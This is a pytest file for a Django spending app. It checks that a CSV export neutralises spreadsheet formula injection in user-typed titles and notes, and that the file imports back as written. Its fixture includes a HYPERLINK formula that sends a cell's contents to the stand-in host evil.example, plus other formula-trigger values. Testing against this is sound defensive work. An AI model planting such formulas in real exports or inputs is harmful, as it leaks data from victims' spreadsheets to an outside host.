"""Issue 14, item 7: the spending example file neutralises formulas in the texts people typed
(measure titles, notes), keeps amounts as numbers, and reads back as it was written."""

import csv
import io
from decimal import Decimal as D

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from spending.models import MeasureSpending
from spending.services.spending import SpendingData, spending_record

from .conftest import ratify

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("https://evil.example/?d="&C2,"Klik")'
NOTE = "@SUM(A1:A9)"


@pytest.fixture
def malicious(process):
    ratify(
        process,
        measures=[
            (TITLE, "task_relief", {"2025": "5200.00"}),
            ("+1", "extra_staff", {"2025": "10.00"}),
        ],
    )
    return process


def _example(client, process):
    response = client.get(reverse("spending:import-example", args=[process.pk]))
    assert response.status_code == 200
    return response.content


def test_item7_spending_example_neutralises_titles_and_notes(client, malicious, director):
    spending_record(
        process=malicious,
        number=1,
        actor=director,
        data=SpendingData(D("1234.56"), "started", D("0.8"), NOTE),
    )
    client.force_login(director)

    text = _example(client, malicious).decode("utf-8-sig")

    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert [row["titel"] for row in rows] == ["'" + TITLE, "'+1"]
    assert rows[0]["toelichting"] == "'" + NOTE
    assert rows[0]["bedrag"] == "1234,56"  # an amount, not neutralised text
    assert rows[0]["fte"] == "0,80"


def test_item7_spending_example_reads_back_as_written(client, malicious, director):
    spending_record(
        process=malicious,
        number=1,
        actor=director,
        data=SpendingData(D("1234.56"), "started", None, NOTE),
    )
    client.force_login(director)
    upload = SimpleUploadedFile("example.csv", _example(client, malicious))

    response = client.post(reverse("spending:import", args=[malicious.pk]), {"file": upload})

    assert response.status_code == 302
    assert MeasureSpending.objects.get(actual=D("1234.56")).note == NOTE
